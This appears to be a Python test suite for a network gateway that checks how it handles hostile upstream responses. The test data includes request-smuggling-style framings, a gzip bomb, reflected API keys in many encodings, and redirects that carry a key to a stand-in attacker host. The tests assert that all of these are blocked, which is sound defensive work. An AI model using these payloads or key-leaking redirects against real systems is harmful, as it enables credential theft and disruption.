"""A13, C09, H20, K01, D08, R02-R04, T04, T06, T14, W02: hostile answers, and what an allowed road can be used for."""
import base64
import gzip
import json
import os
import re
import shutil
import urllib.parse

from attacks.gateway_rows import EVIL, request, tls
from lab.recorder import Recorder
from support import Case, case, procs

KEY = "real-key/7b+19=c5"
HOST, WILD = "api.example.com", "wild.example.com"


def answer(*lines, body=b"", status="200 OK"):
    if isinstance(body, str):
        body = body.encode()
    return "\r\n".join([f"HTTP/1.1 {status}", *lines, f"Content-Length: {len(body)}", "", ""]).encode("latin-1") + body


def chunks(*parts):
    return b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts) + b"0\r\n\r\n"


class Answers(Case):
    def setUp(self):
        super().setUp()
        self.site = Recorder(self.lab, HOST, *(f"{label}.{WILD}" for label in ("a", "b", "c", "secret-data")))
        self.evil = Recorder(self.lab, EVIL)
        self.addCleanup(self.site.close)
        self.addCleanup(self.evil.close)

    def paths(self, answers, policy=None, arm="on", env=None, timeout=120, **more):
        """What a plain client gets for each path of `answers`: {path: bytes or function}."""
        self.site.answers = {f" {path} ".encode(): a for path, a in answers.items()}
        lines = ["Authorization: Bearer {TOKEN}"] if policy else []
        cases = [tls(request(path, *lines), to=HOST, sni=HOST, **more) for path in answers]
        shutil.copy(os.path.join(case.ROOT, "tests/attacks/raw_client.py"), self.work)
        self.write(os.path.join(self.work, "cases.json"), json.dumps(cases))
        argv = ["/usr/bin/python3", "raw_client.py", "cases.json"]
        env = {"API_KEY": KEY, **(env or {})}
        if arm == "off":
            result = self.outside(argv, env=env, timeout=timeout)
        else:
            result = self.inside(argv, policy or self.grant(HOST), env=env, timeout=timeout)
        self.result = self.ok(result)
        return dict(zip(answers, json.loads(result.out)))

    @property
    def keyed(self):
        return self.credential(header="bearer") + self.grant(HOST, credential="api")

    # R02-R04 ---------------------------------------------------------------------------------------------------

    unwanted = ("Set-Cookie: id=1", 'Alt-Svc: h3=":443"', "Strict-Transport-Security: max-age=1", 'NEL: {"report_to":"x"}',
                'Report-To: {"url":"https://evil"}', "Refresh: 0;url=https://evil", f"Link: <https://{EVIL}/x>; rel=preload",
                "Clear-Site-Data: *", "SourceMap: x", "X-SourceMap: x", "Public-Key-Pins: x", "Accept-CH: DPR",
                "Proxy-Authenticate: Basic", "Connection: keep-alive, x-secret-hop", "Upgrade: h2c", "Keep-Alive: timeout=1")

    def test_R04_headers_that_make_a_client_do_things(self):
        answers = {f"/{i}": answer(line, "X-Kept: yes", body="text") for i, line in enumerate(self.unwanted)}
        off = self.paths(answers, arm="off")
        on = self.paths(answers)
        for (path, got), line in zip(on.items(), self.unwanted):
            word = line.split(":")[0].lower() + ":"
            self.assertIn(word, off[path].lower())
            head = got.split("\r\n\r\n")[0].lower()
            self.assertIn("x-kept: yes", head, got)
            lines = [one for one in head.split("\r\n") if one.startswith(word)]
            self.assertEqual([one for one in lines if "keep-alive" not in one and "close" not in one], [], got)
            self.assertNotIn("x-secret-hop", head)

    def test_R04_H20_answers_nobody_asked_for(self):
        broken = {
            "/switch": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\nraw bytes",
            "/interims": b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n" * 100 + answer(body="late"),
            "/zero": b"HTTP/1.1 000 \r\n\r\n", "/thousand": b"HTTP/1.1 1000 x\r\n\r\n",
            "/two-lengths": b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\nabc",
            "/both": b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "/odd-coding": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
            "/bare-cr": b"HTTP/1.1 200 OK\r\nX: a\rY: b\r\nContent-Length: 0\r\n\r\n",
            "/folded": b"HTTP/1.1 200 OK\r\nX: a\r\n b\r\nContent-Length: 0\r\n\r\n",
            "/nul": b"HTTP/1.1 200 OK\r\nX: a\0b\r\nContent-Length: 0\r\n\r\n",
            "/blank-colon": b"HTTP/1.1 200 OK\r\nX : a\r\nContent-Length: 0\r\n\r\n",
            "/no-http": b"SSH-2.0-server\r\n\r\n", "/http09": b"<html>just a body</html>\r\n\r\n", "/http3": b"HTTP/3 200 OK\r\n\r\n",
            "/big-line": b"HTTP/1.1 200 OK\r\nX: " + b"a" * (1 << 20) + b"\r\n\r\n",
            "/many-headers": b"HTTP/1.1 200 OK\r\n" + b"X-A: b\r\n" * 20_000 + b"\r\n",
            "/negative": b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n", "/huge": b"HTTP/1.1 200 OK\r\nContent-Length: 18446744073709551617\r\n\r\nx",
        }
        for path, got in self.paths(broken).items():
            if path == "/interims":
                self.assertRegex(got, r"^HTTP/1\.1 (502|200) ")
                self.assertNotIn("Early", got)
                continue
            self.assertRegex(got, r"^HTTP/1\.1 502 ", path)
            self.assertNotIn("raw bytes", got)

    def test_R03_bodies_that_break_off_never_look_whole(self):
        broken = {"/short": b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nonly this",
                  "/half-chunk": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n64\r\nonly this",
                  "/bad-chunk": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\nxyz\r\n"}
        def close_after(bytes_):
            def send(connection):
                connection.sendall(bytes_)
            return send
        for path, got in self.paths({path: close_after(bytes_) for path, bytes_ in broken.items()}).items():
            self.assertNotIn("\r\n0\r\n\r\n", got, path)
            self.assertTrue(got.startswith("HTTP/1.1 502") or not got.endswith("0\r\n\r\n"), path)

    def endless(self, connection):
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        for _ in range(20_000):
            connection.sendall(b"2710\r\n" + b"x" * 10_000 + b"\r\n")

    def test_R03_W02_endless_answers_meet_their_limits(self):
        for what, more in (("budget", '[grant.budget]\nbytes_down = "300KB"\n'), ("limit of one answer", '[grant.response]\nmax_body = "300KB"\n')):
            with self.subTest(what=what):
                (got,) = self.paths({"/endless": self.endless}, self.grant(HOST, more=more), wait=20).values()
                self.assertNotIn("\r\n0\r\n\r\n", got[-10:])
        script = f"touch stream; curl -sS -N -m 60 -o stream https://{HOST}/endless; echo $?; stat -c %s stream"
        self.site.answers = {b" /endless ": self.endless}
        result = self.inside(["/bin/sh", "-c", script], self.grant(HOST, more='[grant.budget]\nbytes_down = "300KB"\n'))
        status, size = result.out.split()
        self.assertNotEqual(status, "0", result)
        self.assertLessEqual(int(size), 300_000)  # none at all where the cut overtakes what went before it
        self.assertTrue(self.site.with_(b"/endless"))

    def test_R02_a_compressed_answer_is_refused_where_it_could_hide_a_key(self):
        bomb = gzip.compress(b"\0" * 50_000_000)
        layered = gzip.compress(gzip.compress(KEY.encode()))
        answers = {"/bomb": answer("Content-Encoding: gzip", body=bomb), "/layers": answer("Content-Encoding: gzip, gzip", body=layered),
                   "/odd": answer("Content-Encoding: x-nobody-knows", body=KEY)}
        for path, got in self.paths(answers, self.keyed).items():
            self.assertRegex(got, r"^HTTP/1\.1 502 ", path)
        for path, got in self.paths(answers).items():  # nothing to hide: it is the client's own business
            self.assertRegex(got, r"^HTTP/1\.1 200 ", path)

    # C09, A13 --------------------------------------------------------------------------------------------------

    def reflections(self):
        raw = KEY.encode()
        yield "plain", raw
        yield "in JSON", json.dumps({"key": KEY}).encode()
        yield "in JSON, slashes escaped", json.dumps({"key": KEY}).replace("/", "\\/").encode()
        yield "percent-encoded", urllib.parse.quote(KEY, safe="").encode()
        yield "percent-encoded, lower case", urllib.parse.quote(KEY, safe="").lower().encode()
        yield "hex", raw.hex().encode()
        yield "HEX", raw.hex().upper().encode()
        for before in (b"", b"x", b"xy"):
            yield f"base64 behind {len(before)} bytes", base64.b64encode(before + b"Bearer " + raw + b" tail")
        yield "base64url", base64.urlsafe_b64encode(b"k=" + raw)
        yield "html", KEY.replace("+", "&#43;").encode() + b" " + raw

    def test_C09_a_key_that_comes_back_is_taken_out(self):
        forms = dict(self.reflections())
        answers = {}
        for number, form in enumerate(forms.values()):
            answers[f"/body{number}"] = answer(body=b"before " + form + b" after")
            answers[f"/error{number}"] = answer(body=b"<h1>" + form, status="401 Unauthorized")
            answers[f"/header{number}"] = answer("X-Echo: " + form.decode(), body="-")
            cut = len(form) // 2
            answers[f"/chunked{number}"] = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks(form[:cut], form[cut:])
            answers[f"/bytes{number}"] = (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                                          + chunks(*(form[i:i + 1] for i in range(len(form)))))
        answers["/status"] = b"HTTP/1.1 200 " + KEY.encode() + b"\r\nContent-Length: 0\r\n\r\n"
        answers["/name"] = answer(f"X-{KEY.replace('/', '').replace('=', '')}: 1", body="-")
        for path, got in self.paths(answers, self.keyed).items():
            self.assertRegex(got, r"^HTTP/1\.1 (200|401) ", path)
            number = re.search(r"\d+$", path.split("/")[1])
            body = re.sub(r"\r\n[0-9a-f]+\r\n", "", got.partition("\r\n\r\n")[2]) if "chunked" in got.lower() else got
            for text in (got, body):
                self.assertNotIn(KEY, text, path)
                self.assertNotIn(KEY.replace("/", "\\/"), text, path)
                if number and list(forms)[int(number[0])] != "html":
                    self.assertNotIn(list(forms.values())[int(number[0])].decode(), text, path)

    def test_A13_nothing_is_followed_for_the_client(self):
        leads = {f"/{status}": answer(f"Location: https://{EVIL}/{status}?key={urllib.parse.quote(KEY, safe='')}", status=f"{status} Elsewhere")
                 for status in (301, 302, 303, 307, 308)}
        for path, got in self.paths(leads, self.keyed).items():
            self.assertRegex(got, rf"^HTTP/1\.1 {path[1:]} ", path)
            self.assertNotIn(urllib.parse.quote(KEY, safe=""), got)
        script = "".join(f"curl -sSL -o /dev/null -w '%{{http_code}}\\n' -H \"Authorization: Bearer $API_KEY\" https://{HOST}{path}\n" for path in leads)
        result = self.inside(["/bin/sh", "-c", script], self.keyed, env={"API_KEY": KEY})
        self.assertEqual(set(result.out.split()), {"403"}, result)
        self.assertEqual(self.evil.heard, [])

    # What an allowed road carries beside its words -----------------------------------------------------------------

    def test_K01_requests_are_written_anew(self):
        """Case, blanks and the like of a request's head say nothing upstream."""
        spellings = [["Accept: text/x", "User-Agent: u", "Accept-Language: en"], ["aCCEPT:text/x", "USER-AGENT:    u", "accept-LANGUAGE:\ten  "]]
        self.paths({"/0": answer(body="-")})
        cases = [tls(request("/same", *lines), to=HOST, sni=HOST) for lines in spellings]
        self.write(os.path.join(self.work, "cases.json"), json.dumps(cases))
        self.site.forget()
        self.ok(self.inside(["/usr/bin/python3", "raw_client.py", "cases.json"], self.grant(HOST)))
        heard = {part for one in self.site.with_(b"/same") for part in re.split(rb"(?<=\r\n\r\n)", one) if part}
        self.assertEqual(len(heard), 1, heard)

    def test_D08_labels_of_a_wildcard_run_out(self):
        names = [f"{label}.{WILD}" for label in ("a", "b", "c", "secret-data")]
        cases = [tls(request("/", host=name), to=name, sni=name) for name in [*names, names[0]]]
        shutil.copy(os.path.join(case.ROOT, "tests/attacks/raw_client.py"), self.work)
        self.write(os.path.join(self.work, "cases.json"), json.dumps(cases))
        grant = self.grant("*." + WILD).replace("[[grant.allow]]", "labels = 2\n[[grant.allow]]", 1)
        script = ("import json, subprocess, sys\n"  # one after the other: their order counts
                  "for case in json.load(open('cases.json')):\n"
                  "  with open('one.json', 'w') as file: json.dump([case], file)\n"
                  "  done = subprocess.run([sys.executable, 'raw_client.py', 'one.json'], capture_output=True, text=True)\n"
                  "  print(json.loads(done.stdout)[0][9:12])\n")
        result = self.ok(self.inside(["/usr/bin/python3", "-c", script], grant))
        self.assertEqual(result.out.split(), ["200", "200", "429", "429", "200"], result)
        self.assertEqual({name for name, _ in self.lab.zone.questions}, set(names[:2]), "what the zone's owner learnt")

    # T04, T06, T14 ---------------------------------------------------------------------------------------------

    def hellos(self, arm):
        shutil.copy(os.path.join(case.ROOT, "tests/attacks/raw_hello.py"), self.work)
        manners = ("whole", "bytes", "records", "tiny", "large", "late", "ech", "two")
        script = "".join(f"echo {manner} {name} $(/usr/bin/python3 raw_hello.py {manner} {name} {target})\n"
                         for manner in manners for name, target in ((HOST, HOST), (EVIL, EVIL), (EVIL, HOST)))
        result = self.outside(["/bin/sh", "-c", script]) if arm == "off" else self.inside(["/bin/sh", "-c", script], self.grant(HOST))
        return [(*line.split(None, 2), "")[:3] for line in result.out.splitlines()]

    def test_T04_T06_odd_hellos_off(self):
        for manner, name, told in self.hellos("off")[:-6]:
            self.assertRegex(told, r"HTTP/1\.1 200", f"{manner} {name}")
        self.assertTrue(self.evil.everything())

    def test_T04_T06_odd_hellos_on(self):
        for manner, name, told in self.hellos("on"):
            if manner == "two":
                self.assertEqual(told, "alert", name)
            elif name == EVIL:  # the gateway itself says no
                self.assertNotRegex(told, r"HTTP/1\.1 2", manner)
            elif manner in ("whole", "bytes", "records", "late"):
                self.assertRegex(told, r"HTTP/1\.1 200", manner)
        self.assertEqual(self.evil.heard, [])
        self.assertEqual(set(self.site.names) - {HOST}, set())

    def test_T14_names_without_end(self):
        script = ("import socket, ssl, time\n"
                  "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
                  "def hand(name):\n"
                  "  try:\n"
                  f"    with socket.create_connection(('{HOST}', 443), 10) as s, c.wrap_socket(s, server_hostname=name): return True\n"
                  "  except OSError: return False\n"
                  "made = sum(hand('n%d.wild.example.com' % i) for i in range(400))\n"
                  "evil = sum(hand('n%d.evil-collector.com' % i) for i in range(400))\n"
                  f"print(made, evil, hand('{HOST}'), file=open('done', 'w'), flush=True)\n"
                  "time.sleep(60)\n")
        child = self.start_inside(["/usr/bin/python3", "-c", script], self.grant(HOST) + self.grant("*." + WILD))
        made, evil, good = self.wait_for_file("done", 100).split()
        (front,) = procs.descendants_named(child.pid, "bulkhead-front")
        size = int(re.search(r"VmRSS:\s*(\d+)", procs.read(front, "status").decode())[1])
        self.assertLess(size, 60_000, "KiB of front")
        # A wildcard is one certificate; of names that nobody granted so many a second get one to be refused with.
        self.assertEqual((made, good), ("400", "True"))
        self.assertLess(int(evil), 350)
        self.assertEqual(self.site.heard, [], "a handshake alone reaches nobody")
